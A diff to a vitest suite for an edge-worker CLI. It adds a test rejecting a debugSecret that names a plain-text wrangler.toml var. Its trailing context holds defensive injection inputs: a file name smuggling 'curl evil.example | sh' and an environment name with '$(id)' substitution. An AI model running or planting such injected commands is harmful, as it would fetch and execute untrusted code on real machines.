@@ -10,6 +10,7 @@ import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test"
 import { env } from "cloudflare:workers";
 import { Hono } from "hono";
 import { describe, expect, it } from "vitest";
+import { main } from "../src/cli/main";
 import { pushCommand, shellLine } from "../src/cli/push";
 import { applyPatch, buildSuggestions } from "../src/cli/suggest";
 import { compileConfig } from "../src/config/compile";
@@ -519,6 +520,42 @@ describe("an uploaded config (CONFIG_KV) crafted to slip through", () => {
 });
 
 describe("the CLI's pure parts", () => {
+  it("check refuses a debugSecret that names a var: its value is plain text in wrangler.toml", async () => {
+    const config = JSON.stringify({
+      sites: [
+        { ...testSite({ id: "attack-var", origin: "https://origin.example.com" }), debugSecret: "DEBUG" },
+      ],
+    });
+    const wrangler = (vars: string) =>
+      `name = "edge"\nmain = "src/index.ts"\ncompatibility_date = "2026-04-20"\n${vars}\n[env.staging.vars]\nDEBUG = "hunter2"\n`;
+    const run = async (toml: string, env?: string) => {
+      const stderr: string[] = [];
+      const files: Record<string, string> = { "c.json": config, "wrangler.toml": toml };
+      const code = await main(
+        ["check", "c.json", "--wrangler", "wrangler.toml", ...(env ? ["--env", env] : [])],
+        {
+          readFile: (path) => {
+            const text = files[path];
+            if (text === undefined) throw new Error(`ENOENT: ${path}`);
+            return text;
+          },
+          stdout: () => {},
+          stderr: (line) => stderr.push(line),
+        },
+      );
+      return { code, stderr: stderr.join("\n") };
+    };
+    const top = await run(wrangler('[vars]\nDEBUG = "hunter2"'));
+    expect(top.code).toBe(1);
+    expect(top.stderr).toContain('sites[0].debugSecret ("attack-var") in c.json names DEBUG, a var');
+    expect(top.stderr).toContain("wrangler secret put DEBUG");
+    const staging = await run(wrangler(""), "staging");
+    expect(staging.code).toBe(1);
+    expect(staging.stderr).toContain("--env staging");
+    // A secret is not in the file at all: the same config passes.
+    expect((await run(wrangler(""))).code).toBe(0);
+  });
+
   it("push hands a hostile file or environment name to wrangler as one argument each, never to a shell", () => {
     const file = "x.json; curl evil.example | sh #";
     const envName = "prod$(id)`id`";
